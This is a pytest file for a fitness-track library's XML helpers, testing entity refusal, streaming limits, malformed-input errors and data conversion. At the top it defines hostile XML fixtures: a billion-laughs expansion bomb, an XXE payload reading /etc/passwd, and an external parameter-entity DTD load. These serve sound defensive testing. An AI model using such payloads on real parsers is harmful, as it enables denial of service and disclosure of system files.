"""Tests of the shared XML helpers: safety checks, streaming and vectorised conversion."""

from __future__ import annotations

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kicklab.errors import CorruptFile, KicklabError, UnsupportedFormat
from kicklab.io import _xml, limits
from kicklab.io._xml import (
    ColumnBuffer,
    blank_if_all_zero,
    cadence_is_spm,
    cadence_to_spm,
    iter_xml,
    map_sport,
    pauses_from_gaps,
    refuse_entities,
    snake_case,
    to_float,
    to_utc,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gpx><trk><name>&lol9;</name></trk></gpx>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<gpx><trk><name>&xxe;</name><trkseg>
<trkpt lat="1" lon="1"><time>2020-01-01T00:00:00Z</time></trkpt>
</trkseg></trk></gpx>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY % ext SYSTEM "http://example.invalid/evil.dtd"> %ext;]>
<gpx/>
"""


def events(data: bytes, root: str = "gpx") -> list[tuple[bool, str, int]]:
    return [(s, name, len(stack)) for s, name, _, stack in iter_xml(data, "t", root)]


# ----------------------------------------------------------------------------- entity refusal
@pytest.mark.parametrize(
    "doc", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY], ids=["laughs", "xxe", "pe"]
)
def test_entity_declarations_are_refused(doc):
    with pytest.raises(CorruptFile, match="entities") as info:
        refuse_entities(doc, "evil.gpx")
    assert info.value.source == "evil.gpx"
    with pytest.raises(CorruptFile, match="DTD"):
        events(doc)


def test_entity_declarations_in_utf16_are_refused():
    doc = XXE.decode().replace('version="1.0"?', 'version="1.0" encoding="UTF-16"?')
    with pytest.raises(CorruptFile, match="entities"):
        refuse_entities(doc.encode("utf-16"), "evil.gpx")


def test_doctype_without_entities_and_plain_documents_pass():
    refuse_entities(b'<?xml version="1.0"?><!DOCTYPE gpx SYSTEM "gpx.dtd"><gpx/>')
    refuse_entities(b"<gpx><!-- <!ENTITY is only text here --></gpx>")
    assert events(b"<?xml version='1.0'?><!DOCTYPE gpx><gpx/>") == [
        (True, "gpx", 1),
        (False, "gpx", 1),
    ]


def test_entities_stay_unresolved_even_without_the_precheck(monkeypatch):
    """Defence in depth: the parser options alone never read /etc/passwd or expand."""
    monkeypatch.setattr(_xml, "refuse_entities", lambda data, source=None: None)
    texts = [
        elem.text for s, name, elem, _ in iter_xml(XXE, "t", "gpx") if not s and name == "name"
    ]
    assert texts and all(t is None or "root:" not in t for t in texts)
    # libxml2's amplification guard stops the expansion; never a huge text
    with pytest.raises(CorruptFile, match="amplification"):
        for is_start, _, elem, _ in iter_xml(BILLION_LAUGHS, "t", "gpx"):
            assert is_start or len(elem.text or "") < 1000


# ----------------------------------------------------------------------------- streaming
def test_events_carry_local_names_and_parent_stack():
    doc = b'<a:gpx xmlns:a="urn:x" xmlns:b="urn:y"><b:trk><name>x</name></b:trk></a:gpx>'
    got = [(s, n, list(stack)) for s, n, _, stack in iter_xml(doc, "t", "gpx")]
    assert got[2] == (True, "name", ["gpx", "trk", "name"])
    assert got[3] == (False, "name", ["gpx", "trk", "name"])
    assert [g[1] for g in got if not g[0]] == ["name", "trk", "gpx"]


def test_finished_siblings_are_removed_while_streaming():
    """The tree never holds more than what lxml parsed ahead (one read chunk), not the file."""
    n = 20_000
    doc = b"<gpx>" + b"<p><v>1</v></p>" * n + b"</gpx>"
    widths = []
    for is_start, name, elem, _ in iter_xml(doc, "t", "gpx"):
        if not is_start and name == "p":
            widths.append(len(elem.getparent()))
            assert len(elem) == 1  # its child is still there (leaf test), cleared next
    assert len(widths) == n
    assert max(widths) < n // 4
    assert widths[-1] <= 2


def test_depth_limit(monkeypatch):
    deep = b"<gpx>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</gpx>"
    with pytest.raises(CorruptFile, match="deeper than 64"):
        events(deep)
    monkeypatch.setattr(limits, "MAX_XML_DEPTH", 3)
    assert len(events(b"<gpx><a><b/></a></gpx>")) == 6
    with pytest.raises(CorruptFile, match="deeper than 3"):
        events(b"<gpx><a><b><c/></b></a></gpx>")


def test_wrong_root():
    with pytest.raises(UnsupportedFormat, match=r"root element is <html>, not <gpx>"):
        events(b"<html><body/></html>")


@pytest.mark.parametrize(
    ("doc", "pattern"),
    [
        (b"", "empty"),
        (b"   \n", "Start tag expected"),
        (b"\x00\x01\x02 not xml", "Start tag expected"),
        (b"<gpx>\n<trk></trkseg></gpx>", r"line 2.*mismatch"),
        (b'<gpx><trk><trkseg><trkpt lat="1"', "line 1"),
        (b"<gpx>&undefined;</gpx>", "undefined"),
        (b"<gpx>\xff\xfe\xfa</gpx>", "encoding"),
    ],
)
def test_malformed_xml_is_corrupt_with_lxml_message(doc, pattern):
    with pytest.raises(CorruptFile, match=pattern) as info:
        events(doc)
    assert info.value.source == "t"
    assert "malformed XML" in info.value.reason


def test_truncated_document_is_corrupt():
    doc = b"<gpx><trk><name>a</name><trkseg><trkpt/></trkseg></trk></gpx>"
    for cut in range(len("<gpx>"), len(doc) - 1):
        with pytest.raises(CorruptFile, match="malformed XML"):
            events(doc[:cut])
    for cut in range(1, len("<gpx>")):
        with pytest.raises(KicklabError):
            events(doc[:cut])


# ----------------------------------------------------------------------------- conversion
def test_to_float_coerces_garbage_and_infinities():
    got = to_float([" 12.5\n", "x", None, "1e400", "-3", "nan"])
    np.testing.assert_array_equal(got[[0, 4]], [12.5, -3.0])
    assert np.isnan(got[[1, 2, 3, 5]]).all()
    assert to_float([]).shape == (0,)


def test_to_utc_offsets_fractions_and_garbage():
    got = to_utc(
        [
            "2016-09-20T04:16:00Z",
            "2016-09-20T06:16:00.5+02:00",
            "2016-09-19T23:16:01-05:00",
            " 2016-09-20T04:16:02Z ",
            "2016-09-20T04:16:03",
            "garbage",
            None,
        ]
    )
    secs = (got - np.datetime64("2016-09-20T04:16:00")) / np.timedelta64(1, "s")
    np.testing.assert_allclose(secs[:5], [0.0, 0.5, 1.0, 2.0, 3.0])
    assert np.isnat(got[5:]).all()
    assert to_utc([]).shape == (0,)


def test_column_buffer_backfills_new_columns():
    buf = ColumnBuffer()
    buf.append({"a": "1"})
    buf.append({"b": "2"})
    buf.append({"a": "3", "b": "4"})
    assert len(buf) == 3
    assert buf.get("a") == ["1", None, "3"]
    assert buf.get("b") == [None, "2", "4"]
    assert buf.get("c") == [None, None, None]
    assert buf.has("b") and not buf.has("c")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("RunCadence", "run_cadence"),
        ("atemp", "atemp"),
        ("ProductID", "product_id"),
        ("a-b c", "a_b_c"),
    ],
)
def test_snake_case(name, expected):
    assert snake_case(name) == expected


@pytest.mark.parametrize(
    ("word", "sport"),
    [
        ("Running", "running"),
        ("run", "running"),
        ("trail_running", "running"),
        ("Biking", "cycling"),
        ("cycling", "cycling"),
        ("Ride", "cycling"),
        ("walking", "walking"),
        ("Hiking", "hiking"),
        ("Other", "other"),
        ("Nordic Skiing", "nordic_skiing"),
        ("9", None),
        ("  ", None),
        (None, None),
    ],
)
def test_map_sport(word, sport):
    assert map_sport(word) == sport


def test_cadence_rule_rpm_is_doubled():
    rpm = np.array([0, 84, 86, 88, 90, 92, np.nan])
    spm, factor = cadence_to_spm(rpm)
    assert factor == 2.0
    np.testing.assert_array_equal(spm[:6], rpm[:6] * 2)
    assert np.isnan(spm[6])


def test_cadence_rule_spm_by_median_or_upper_percentile():
    assert cadence_is_spm(np.array([0, 0, 170, 172, 175, 178]))  # median of non-zero > 120
    # walk (~118 steps/min) then run (~176): median 120, but 300 steps/min cannot be real
    walk_run = np.r_[np.full(120, 118.0), np.full(20, 120.0), np.full(100, 176.0)]
    assert np.median(walk_run) <= 120
    assert cadence_is_spm(walk_run)
    spm, factor = cadence_to_spm(walk_run)
    assert factor == 1.0
    np.testing.assert_array_equal(spm, walk_run)
    # a fast runner at 100 rpm with a few sprint values stays rpm
    assert not cadence_is_spm(np.r_[np.full(95, 100.0), np.full(5, 125.0)])
    assert not cadence_is_spm(np.array([np.nan, 0.0]))


@given(st.lists(st.floats(1, 400, allow_nan=False), min_size=1, max_size=50))
def test_cadence_result_is_plausible_steps(values):
    """Whatever the rule decides, the factor is 1 or 2 and values only ever grow."""
    raw = np.array(values)
    spm, factor = cadence_to_spm(raw)
    assert factor in (1.0, 2.0)
    assert (spm >= raw).all()
    if factor == 2.0:
        assert np.median(raw) <= 120


def test_blank_if_all_zero():
    assert np.isnan(blank_if_all_zero(np.array([0.0, 0.0, np.nan]))).all()
    np.testing.assert_array_equal(blank_if_all_zero(np.array([0.0, 5.0])), [0.0, 5.0])


def test_pauses_from_gaps_kinds():
    t = np.array([0.0, 1.0, 2.0, 100.0, 101.0, 105.0, 105.0, 300.0])
    kinds = np.array(["", "", "", "", "", "segment_gap", "segment_gap", ""], dtype=object)
    p = pauses_from_gaps(t, kinds)
    # 2→100 is a long gap; 101→105 starts a new segment; 105→105 has no length; 105→300 gap
    assert p["kind"].tolist() == ["gap", "segment_gap", "gap"]
    np.testing.assert_array_equal(p["start_time_s"], [2.0, 101.0, 105.0])
    np.testing.assert_array_equal(p["end_time_s"], [100.0, 105.0, 300.0])
    np.testing.assert_array_equal(p["duration_s"], [98.0, 4.0, 195.0])
    # a 60 s interval is not a gap; only longer ones are
    p2 = pauses_from_gaps(np.array([0.0, 60.0, 120.5]), np.array(["", "", ""], dtype=object))
    assert p2["start_time_s"].tolist() == [60.0]
    assert len(pauses_from_gaps(np.array([0.0]), np.array([""], dtype=object))) == 0


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=300))
def test_random_bytes_only_raise_kicklab_errors(data):
    try:
        for _ in iter_xml(data, "fuzz", "gpx"):
            pass
    except KicklabError:
        pass
